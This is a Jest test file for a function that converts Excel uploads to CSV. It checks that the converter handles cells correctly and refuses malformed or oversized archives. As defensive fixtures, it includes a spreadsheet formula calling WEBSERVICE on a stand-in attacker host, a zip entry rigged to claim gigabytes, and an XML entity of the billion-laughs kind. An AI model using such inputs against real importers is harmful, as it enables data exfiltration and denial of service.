import { describe, expect, it } from '@jest/globals';
import { strToU8, zipSync } from 'fflate';
import { anXlsx } from './xlsx.test-support.ts';
import { csvOfXlsx } from './xlsx.ts';

const HEAD = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>';

describe('an Excel file', () => {
  it('is read from its first sheet, with each row and cell at its place', async () => {
    const rows = `${HEAD}<row r="3"><c r="A3" t="s"><v>1</v></c><c r="C3" t="inlineStr"><is><t>Bole, "Main"</t></is></c>
      <c r="D3" t="b"><v>1</v></c></row>
      <row><c><v>9.01E0</v></c><c t="str"><f>A1&amp;"x"</f><v>stored</v></c></row>`;
    expect(await csvOfXlsx(anXlsx(rows))).toBe('name\n\nSelam Clinic & Lab,,"Bole, ""Main""",TRUE\n9.01E0,stored\n');
  });

  it('has no macro, link or picture unpacked, and a formula gives the stored value only', async () => {
    const rows = `${HEAD}<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example")</f>
      <v>Abebe</v></c><c r="B2"><f>1+1</f></c></row>`;
    const broken = { 'xl/vbaProject.bin': 'macro', 'xl/externalLinks/externalLink1.xml': '<not closed', 'xl/styles.xml': '<not closed' };
    expect(await csvOfXlsx(anXlsx(rows, broken))).toBe('name\nAbebe\n');
  });

  it('that claims gigabytes is refused before anything of it is unpacked', async () => {
    const bytes = anXlsx(HEAD);
    const name = strToU8('xl/worksheets/sheet2.xml');
    // The size in the file's directory: 24 bytes after its signature, whose entry has the name at 46.
    const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
    for (let at = 0; at < bytes.length - 46; at++) {
      const isEntry = view.getUint32(at, true) === 0x02014b50;
      if (isEntry && name.every((it, offset) => bytes[at + 46 + offset] === it)) view.setUint32(at + 24, 0xfffffff0, true);
    }
    await expect(csvOfXlsx(bytes)).rejects.toMatchObject({ fault: 'too_large' });
  });

  it.each([
    ['text that is no archive', strToU8('name,type'), 'unreadable'],
    ['an archive of something else', zipSync({ 'a.txt': strToU8('x') }), 'unreadable'],
    ['XML that is broken', anXlsx('<row r="1">'), 'unreadable'],
    ['entities of its own', anXlsx('<row r="1"><c r="A1" t="str"><v>&lol;</v></c></row>'), 'unreadable'],
    ['no cells', anXlsx('<row r="1"></row>'), 'empty'],
    ['a row beyond the limit', anXlsx(`${HEAD}<row r="1048576"><c r="A1048576"><v>1</v></c></row>`), 'too_long'],
    ['rows in the wrong order', anXlsx('<row r="5"><c r="A5"><v>1</v></c></row><row r="2"><c r="A2"><v>1</v></c></row>'), 'too_long'],
  ])('with %s is refused', async (_, bytes, fault) => {
    await expect(csvOfXlsx(bytes)).rejects.toMatchObject({ fault });
  });

  it('has at most one column more than an import may have, however far a cell is', async () => {
    const rows = `${HEAD}<row r="2"><c r="A2"><v>1</v></c><c r="XFD2"><v>2</v></c><c r="CW2"><v>3</v></c></row>`;
    expect((await csvOfXlsx(anXlsx(rows))).split('\n')[1]?.split(',')).toHaveLength(101);
  });
});
